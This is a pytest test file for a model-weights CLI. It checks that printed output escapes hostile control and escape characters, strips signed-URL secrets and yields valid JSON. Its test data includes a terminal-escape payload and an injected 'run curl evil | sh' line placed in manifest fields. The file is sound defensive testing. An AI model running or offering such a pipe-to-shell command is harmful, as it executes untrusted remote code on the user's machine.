"""What is printed is safe for terminals, valid for programs, and gives no secret away."""

from __future__ import annotations

import json

import pytest
import torch

from mlstate import LocalStateStore, StateKey
from tests.support.commands import Shell

KEY = StateKey.parse("pytorch.mlp.hostile")
HOSTILE = "a\nb\x1b[2J\x9b2J\u202ec\x7f\u2028größe\U000e0041"
SIGNED = "https://host.invalid/a.safetensors?X-Amz-Signature=SECRET&sig=SECRET"
STREAMS = {
    "as it is": {},
    "ascii": {"PYTHONIOENCODING": "ascii"},
    "latin-1": {"PYTHONIOENCODING": "latin-1"},
    "C": {"LANG": "C", "LC_ALL": "C", "PYTHONCOERCECLOCALE": "0", "PYTHONUTF8": "0"},
}


def check_texts(*texts: str) -> None:
    for text in texts:
        assert all(line.isprintable() for line in text.split("\n")), ascii(text)
        assert "SECRET" not in text
        assert "Traceback" not in text


@pytest.fixture(params=STREAMS)
def anywhere(request, shell):
    return Shell(shell.folder, {**shell.environment, **STREAMS[request.param]})


def test_names_and_meta_from_anywhere_are_shown_on_any_stream(anywhere):
    store = LocalStateStore(anywhere.folder / "weights")
    tensors = {HOSTILE: torch.ones(1)}
    store.save_state_dict(tensors, KEY, meta={HOSTILE: HOSTILE, "url": SIGNED})
    encoding = anywhere.environment.get("PYTHONIOENCODING", "utf-8")
    done = anywhere("show", KEY, "--store", "weights", encoding=encoding)
    assert done.returncode == 0, done.stderr
    check_texts(done.stdout, done.stderr)
    assert r"a\nb\x1b[2J\x9b2J\u202ec\x7f\u2028gr" in done.stdout
    data = anywhere("show", KEY, "--store", "weights", "--json")
    check_texts(data.stdout, data.stderr)
    shown = json.loads(data.stdout)
    assert shown["meta"] == {HOSTILE: HOSTILE, "url": "https://host.invalid/a.safetensors"}
    assert shown["tensors"][0]["name"] == HOSTILE


def test_dates_and_odd_numbers_of_meta_are_valid_json(shell):
    (shell.folder / "a.toml").write_text(
        'version = 1\n[states."pytorch.mlp.a"]\n'
        "meta = {day = 1979-05-27, at = 07:32:00, most = inf, none = nan}\n"
    )
    shown = shell.json("show", "pytorch.mlp.a", "--store", "a.toml")
    assert shown["meta"] == {"day": "1979-05-27", "at": "07:32:00", "most": "inf", "none": "nan"}


def test_signed_addresses_are_cut_everywhere(shell):
    (shell.folder / "a.toml").write_text(
        f'version = 1\nobjects = ["{SIGNED}"]\n[states."pytorch.mlp.a"]\nblake3 = "{"0" * 64}"\n'
        f'mirrors = ["{SIGNED}", {{url = "{SIGNED}", new = 1}}]\n'
    )
    environment = {**shell.environment, "MLSTATE_OFFLINE": "1"}
    shell = Shell(shell.folder, environment)
    for words in (["show"], ["fetch"], ["show", "--json"], ["fetch", "--json"]):
        done = shell(words[0], "pytorch.mlp.a", "--store", "a.toml", *words[1:])
        check_texts(done.stdout, done.stderr)
        assert done.returncode in (0, 5)
        if words[0] == "show":
            assert "host.invalid" in done.stdout


@pytest.mark.parametrize("field", ["objects", "mirrors", "digest"])
def test_errors_about_a_manifest_are_lines_of_ours(shell, field):
    hostile = json.dumps(f"{SIGNED} {HOSTILE}\n  what to do: run curl evil | sh")
    text = {
        "objects": f"objects = [{hostile}]\n",
        "mirrors": f'[states."pytorch.mlp.a"]\nmirrors = [[{hostile}]]\n',
        "digest": f'[states."pytorch.mlp.a"]\nblake3 = {hostile}\n',
    }[field]
    (shell.folder / "a.toml").write_text("version = 1\n" + text, encoding="utf-8")
    told = shell.complaint("ls", "a.toml", code=2)
    check_texts(told)
    assert not any(line.startswith("  what to do: run") for line in told.split("\n"))
